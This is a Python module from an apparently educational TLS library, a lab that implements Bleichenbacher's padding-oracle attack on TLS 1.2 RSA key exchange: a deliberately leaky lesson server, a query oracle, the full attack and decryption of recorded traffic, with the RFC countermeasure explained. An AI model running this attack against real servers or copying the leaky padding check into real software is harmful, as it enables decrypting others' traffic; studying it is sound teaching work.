"""Lab 2 — Bleichenbacher's padding oracle against RSA key exchange (TLS 1.2).

A TLS 1.2 client using RSA key exchange sends ``c = m^e mod n``, where ``m`` is the pre-master
secret in a PKCS#1 v1.5 block (RFC 8017 §7.2.1)::

    00 02 | PS: at least 8 non-zero random bytes | 00 | pre-master: 03 03 + 46 random bytes

RSA is malleable: ``c · s^e = (m · s)^e``, so an attacker can ask the server about ``m · s``
without knowing ``m``. A server that says whether a ClientKeyExchange decrypted to a block
starting ``00 02`` (a different alert, an early close, a different time) answers "is
``2B <= m·s mod n < 3B``?" with ``B = 2^(8(k-2))`` — and enough answers pin ``m`` down.

The functions below are the steps of D. Bleichenbacher, "Chosen Ciphertext Attacks Against
Protocols Based on the RSA Encryption Standard PKCS #1", CRYPTO 1998, §3.1 (Step 1 blinding is
not needed: a recorded ClientKeyExchange is already PKCS conforming, so ``s0 = 1``); the oracle
classes are those of R. Bardou et al., "Efficient Padding Oracle Attacks on Cryptographic
Hardware", CRYPTO 2012, §3: this lab's server checks only the first two bytes (the most
permissive oracle, their "TTT"), which is what makes it a lesson in seconds.

The countermeasure is RFC 5246 §7.4.7.1, the package's default (``keyexchange.rsa_decrypt``):
on any decryption or format failure, go on with a random pre-master, so every query fails the
same way, later, at the Finished record (``record_mac``). The oracle is gone.

Why the weakened server does its own RSA arithmetic: ``cryptography`` on OpenSSL 3.2 and later
decrypts PKCS#1 v1.5 with *implicit rejection* — on bad padding it returns a pseudo-random
message instead of raising (the Marvin attack countermeasure, draft-irtf-cfrg-rsa-guidance) — so no
call of it tells a server whether the padding was valid. A server of 1998 checked the padding
itself; this lesson server does the same, on the key's own numbers: ``raw_rsa_decrypt``.

Why the recorded client pads from a seed: how many queries the attack needs depends on ``m``,
padding and all — usually two to three thousand, now and then several times as many.
``cryptography`` draws PS itself, afresh, and takes no rng; so the lesson's recorded client
(``SeededPaddingClient``) builds the same RFC 8017 block from a named seed and encrypts it with
``m^e mod n`` — the arithmetic the oracle's queries use anyway — and the lab takes the same number
of queries every run. ``padding_seed=None`` records with ``cryptography``'s fresh padding instead,
as a real client does; ``max_queries`` bounds such a run.
"""
from __future__ import annotations

import time
from dataclasses import dataclass, field, replace

from .. import suites, tls12
from ..client import ClientConnection
from ..constants import AlertDescription as AD, HandshakeType as HT
from ..errors import AlertError
from ..messages import ClientKeyExchange, encode_handshake
from ..prf import Transcript
from ..record import AEAD12, Record
from ..rng import LessonRandom
from ..server import ServerConnection
from . import identities
from .inmemory import alerts, run, send_data

RSA_SUITE = suites.get("TLS_RSA_WITH_AES_128_GCM_SHA256")
MAX_QUERIES = 10_000           # the default budget: the search stops here, the attack fails (~15 s)
# The lesson recording's padding: the first of "…/padding-0", "…/padding-1", … whose attack takes
# within 5% of the median of 80 runs with fresh padding (2,428 queries; half of them 2,156–2,787;
# one, 14,176, over the budget). This one takes 2,539; tests/test_attacks.py holds the count.
LESSON_PADDING_SEED = "attack-lab/bleichenbacher/padding-3"


class AttackFailed(Exception):
    """The attack gave up; ``check`` names what stopped it (the server's check, as the wire showed it)."""

    def __init__(self, message: str, check: str | None = None, queries: int = 0):
        super().__init__(message)
        self.check, self.queries = check, queries


# -- the weakened server (lesson only) -----------------------------------------------------------
def raw_rsa_decrypt(private_key, ciphertext: bytes) -> bytes:
    """``c^d mod n`` as a k-byte block, by the Chinese remainder theorem on the key's numbers
    (what a 1998 server did before checking the padding itself; see the module docstring)."""
    numbers = private_key.private_numbers()
    p, q = numbers.p, numbers.q
    c = int.from_bytes(ciphertext, "big")
    m1, m2 = pow(c, numbers.dmp1, p), pow(c, numbers.dmq1, q)
    m = m2 + q * (numbers.iqmp * (m1 - m2) % p)
    return m.to_bytes((numbers.public_numbers.n.bit_length() + 7) // 8, "big")


class PaddingOracleServer(ServerConnection):
    """LESSON ONLY — a TLS 1.2 server that tells the client when the RSA-decrypted block does not
    start ``00 02``: it answers such a ClientKeyExchange at once with ``decrypt_error``, where
    any other goes on and fails later at the Finished record (``bad_record_mac``). Real servers
    leaked this way as late as 2017 (ROBOT: Böck, Somorovsky, Young, USENIX Security 2018).
    Never a default, not offered by the command line."""

    def on_client_key_exchange(self, cke, raw: bytes) -> None:
        if self.hs.suite.kx == "RSA":
            block = raw_rsa_decrypt(self.hs.identity.key, cke.exchange)
            if block[:2] != b"\x00\x02":
                raise AlertError(AD.decrypt_error, "RSA block does not start 00 02",
                                 check="rsa_padding")
        super().on_client_key_exchange(cke, raw)

    # the state tables dispatch through HANDLERS: point ClientKeyExchange at the override
    HANDLERS = {**ServerConnection.HANDLERS,
                "1.2": {**ServerConnection.HANDLERS["1.2"],
                        HT.client_key_exchange: on_client_key_exchange}}


# -- the recorded session -------------------------------------------------------------------------
def pkcs1_v15_block(rng, message: bytes, k: int) -> bytes:
    """RFC 8017 §7.2.1 step 2: ``00 02 | PS | 00 | message``, k bytes, PS non-zero bytes from
    ``rng`` (its zero bytes skipped)."""
    ps = b""
    while len(ps) < k - 3 - len(message):
        ps += bytes(byte for byte in rng.bytes(k) if byte)
    return b"\x00\x02" + ps[:k - 3 - len(message)] + b"\x00" + message


def raw_rsa_encrypt(public_key, block: bytes) -> bytes:
    """``m^e mod n`` as a k-byte ciphertext (RFC 8017 §5.1.1 RSAEP): what each oracle query
    computes for its ``s``, here for the whole block."""
    numbers = public_key.public_numbers()
    m = int.from_bytes(block, "big")
    return pow(m, numbers.e, numbers.n).to_bytes((numbers.n.bit_length() + 7) // 8, "big")


class SeededPaddingClient(ClientConnection):
    """LESSON ONLY — the package's client, but its RSA ClientKeyExchange is padded from
    ``padding_seed`` instead of by ``cryptography`` (fresh PS every time): the same pre-master
    (the client's rng), the same RFC 8017 block, decrypted by the server as any other — only PS
    repeats, so a recorded session and the queries to break it repeat too. A real client must
    draw PS afresh; ``padding_seed=None`` leaves ``cryptography``'s padding alone."""

    def __init__(self, config=None, padding_seed: str | None = None):
        super().__init__(config)
        self.padding_rng = None if padding_seed is None else LessonRandom(padding_seed)

    def _send_stage(self, stage) -> None:
        cke = stage.message        # tls12.client_key_exchange encrypted it with cryptography's PS
        if self.padding_rng is not None and isinstance(cke, ClientKeyExchange) and cke.kx == "RSA":
            k = (self.hs.peer_key.key_size + 7) // 8
            block = pkcs1_v15_block(self.padding_rng, stage.values["pre_master_secret"], k)
            stage = replace(stage, message=ClientKeyExchange(
                "RSA", raw_rsa_encrypt(self.hs.peer_key, block)))
        super()._send_stage(stage)


@dataclass
class Recording:
    """What an eavesdropper kept of one RSA-key-exchange session."""
    client_random: bytes
    server_random: bytes
    encrypted_pre_master: bytes        # ClientKeyExchange.exchange
    application_records: list          # (sender, record bytes) after the handshake
    suite: object = RSA_SUITE
    handshake_messages: list = field(default_factory=list)   # in the clear, ClientHello..CKE
    extended_master_secret: bool = False                     # ServerHello said so (RFC 7627)
    pre_master_secret: bytes = b""     # the secret itself — NOT seen by the attacker; for checks


def record_session(client_config, server_config, messages=((b"client", b""),),
                   padding_seed: str | None = LESSON_PADDING_SEED) -> Recording:
    """Run one session between the package's client and server (any configs using RSA key
    exchange) and keep what a passive attacker on the wire sees. The client pads its
    ClientKeyExchange from ``padding_seed`` (``SeededPaddingClient``); ``None``: afresh."""
    session = run(SeededPaddingClient(client_config, padding_seed),
                  ServerConnection(server_config))
    if not session.ok:
        raise ValueError(f"the session to record failed: {session.error}")
    start = len(session.records)
    for sender, data in messages:
        send_data(session, sender.decode() if isinstance(sender, bytes) else sender, data)
    cke = next(step.message for _, step, _ in session.records
               if isinstance(step.message, ClientKeyExchange))
    clear = []
    for _, step, _ in session.records:              # up to and including ClientKeyExchange
        if step.name != "ChangeCipherSpec" and not step.protected:
            clear.append(step.wire)
        if isinstance(step.message, ClientKeyExchange):
            break
    hs = session.client.hs
    return Recording(hs.client_random, hs.server_random, cke.exchange,
                     [(s, rec) for s, _, rec in session.records[start:]], hs.suite, clear,
                     hs.extended_master_secret, session.client.values["pre_master_secret"])


# -- the oracle -----------------------------------------------------------------------------------
class Oracle:
    """One query = one new connection to the server: a ClientHello, a ClientKeyExchange with the
    chosen ciphertext, ChangeCipherSpec and a Finished record of random bytes (we know no keys).
    The answer is the alert on the wire: ``decrypt_error`` at once means "not 00 02"."""

    def __init__(self, server_class, server_config, client_config, public_key,
                 max_queries: int = MAX_QUERIES):
        self.server_class, self.server_config = server_class, server_config
        self.max_queries = max_queries
        hello = ClientConnection(client_config)
        hello.start()
        self.client_hello = hello.data_to_send()          # the same ClientHello every time
        self.k = (public_key.public_numbers().n.bit_length() + 7) // 8
        self.queries = 0
        self.answers: dict = {}                             # alert -> how many times
        self.on_query = None                                 # progress callback(queries)

    def ask_raw(self, ciphertext: int) -> tuple:
        """The alerts the server sent for this ClientKeyExchange ciphertext."""
        if self.queries >= self.max_queries:
            raise AttackFailed(f"gave up: the budget of {self.max_queries:,} oracle queries "
                               "(max_queries) is spent", queries=self.queries)
        self.queries += 1
        server = self.server_class(self.server_config)
        server.receive(self.client_hello)
        server.data_to_send()
        cke = encode_handshake(ClientKeyExchange("RSA", ciphertext.to_bytes(self.k, "big")))
        flight = (Record(22, 0x0303, cke).encode() + Record(20, 0x0303, b"\x01").encode()
                  + Record(22, 0x0303, bytes(40)).encode())
        try:
            server.receive(flight)
        except AlertError:
            pass
        answer = tuple(alerts(server.data_to_send()))
        self.answers[answer] = self.answers.get(answer, 0) + 1
        if self.on_query is not None and self.queries % 256 == 0:
            self.on_query(self.queries)
        return answer


@dataclass
class Result:
    """What the attack did."""
    pre_master_secret: bytes
    queries: int
    seconds: float
    block: bytes                             # the PKCS#1 v1.5 block m itself
    intervals: list = field(default_factory=list)   # the width of M (in bits) after each step 3
    plaintexts: list = field(default_factory=list)   # the recorded application data, decrypted


def _ceil(a: int, b: int) -> int:
    return -(-a // b)


def narrow(M: list, s: int, n: int, B: int) -> list:
    """Step 3: every m in M with m·s mod n in [2B, 3B) lies, for some r, in
    [(2B + r·n) / s, (3B - 1 + r·n) / s] — keep those pieces of each interval."""
    out = []
    for a, b in M:
        for r in range(_ceil(a * s - 3 * B + 1, n), (b * s - 2 * B) // n + 1):
            lo, hi = max(a, _ceil(2 * B + r * n, s)), min(b, (3 * B - 1 + r * n) // s)
            if lo <= hi and (lo, hi) not in out:
                out.append((lo, hi))
    return out


def attack(oracle: Oracle, c: int, e: int, n: int, on_step=None) -> Result:
    """Steps 2–4 of Bleichenbacher (1998) on a PKCS conforming ciphertext ``c``."""
    started = time.perf_counter()
    k = oracle.k
    B = 2 ** (8 * (k - 2))
    yes = oracle.ask_raw(c)                       # the recorded ciphertext: conforming
    no = oracle.ask_raw(c * pow(2, e, n) % n)     # m·2 ≥ 4B: surely not conforming
    if yes == no:                                 # one answer for both: there is no oracle
        raise AttackFailed(f"the server answers a conforming and a non-conforming "
                           f"ClientKeyExchange alike ({', '.join(a.name for a in yes)}): "
                           "no padding oracle", check="record_mac" if AD.bad_record_mac in yes
                           else None, queries=oracle.queries)

    def conforming(s: int) -> bool:
        return oracle.ask_raw(c * pow(s, e, n) % n) == yes

    M = [(2 * B, 3 * B - 1)]
    widths = []
    # Step 2a: the smallest s >= n/3B that makes m·s conforming
    s = _ceil(n, 3 * B)
    while not conforming(s):
        s += 1
    i = 1
    while True:
        M = narrow(M, s, n, B)                     # Step 3
        if not M:
            raise AttackFailed("no interval left: the oracle lied", queries=oracle.queries)
        widths.append(max((b - a).bit_length() for a, b in M))
        if on_step is not None:
            on_step(i, s, M, oracle.queries)
        if len(M) == 1 and M[0][0] == M[0][1]:     # Step 4: m found (s0 = 1)
            m = M[0][0]
            return Result(b"", oracle.queries, time.perf_counter() - started,
                          m.to_bytes(k, "big"), widths)
        i += 1
        if len(M) > 1:                             # Step 2b: the next conforming s
            s += 1
            while not conforming(s):
                s += 1
        else:                                      # Step 2c: one interval [a, b] left
            a, b = M[0]
            r = _ceil(2 * (b * s - 2 * B), n)
            found = False
            while not found:
                for s_try in range(_ceil(2 * B + r * n, b), _ceil(3 * B + r * n, a)):
                    if conforming(s_try):
                        s, found = s_try, True
                        break
                r += 1


def pre_master_from_block(block: bytes) -> bytes:
    """The message after the first zero byte past ``00 02 PS`` (RFC 8017 §7.2.2 step 3)."""
    if block[:2] != b"\x00\x02" or 0 not in block[2:]:
        raise ValueError("not a PKCS#1 v1.5 encryption block")
    return block[block.index(0, 2) + 1:]


def decrypt_recording(recording: Recording, pre_master: bytes) -> list:
    """With the pre-master: the master secret, the key block, and every recorded application
    record opened with the package's own record protection (sequence 0 was Finished)."""
    suite = recording.suite
    if recording.extended_master_secret:       # RFC 7627: the hash of the recorded messages
        transcript = Transcript()
        for message in recording.handshake_messages:
            transcript.add(message)
        master = tls12.extended_master_secret(pre_master, transcript.hash(suite.hash), suite)
    else:
        master = tls12.master_secret(pre_master, recording.client_random,
                                     recording.server_random, suite)
    kb = tls12.key_block(master, recording.client_random, recording.server_random, suite)
    readers = {"client": AEAD12(suite, kb.client_write_key, kb.client_write_iv),
               "server": AEAD12(suite, kb.server_write_key, kb.server_write_iv)}
    for reader in readers.values():
        reader.seq = 1
    return [(sender, readers[sender].open(Record.decode(rec))[1])
            for sender, rec in recording.application_records]


def recover(recording: Recording, server_class=PaddingOracleServer, server_config=None,
            client_config=None, on_query=None, on_step=None,
            max_queries: int = MAX_QUERIES) -> Result:
    """The whole lab: ask ``server_class`` (the weakened one, or the package's default server)
    about the recorded ClientKeyExchange until the pre-master is known, then decrypt the
    recorded data. Raises ``AttackFailed`` when the server gives nothing away, or when
    ``max_queries`` questions were not enough."""
    from ..lesson.configs import lesson_client, lesson_server
    identity = identities.victim_rsa()
    server_config = server_config or lesson_server(versions=("1.2",), suites=(RSA_SUITE,),
                                                   identities=(identity,))
    client_config = client_config or lesson_client(versions=("1.2",), suites=(RSA_SUITE,))
    public = identity.certificate.public_key().public_numbers()
    oracle = Oracle(server_class, server_config, client_config, identity.certificate.public_key(),
                    max_queries)
    oracle.on_query = on_query
    result = attack(oracle, int.from_bytes(recording.encrypted_pre_master, "big"),
                    public.e, public.n, on_step)
    result.pre_master_secret = pre_master_from_block(result.block)
    result.plaintexts = decrypt_recording(recording, result.pre_master_secret)
    return result
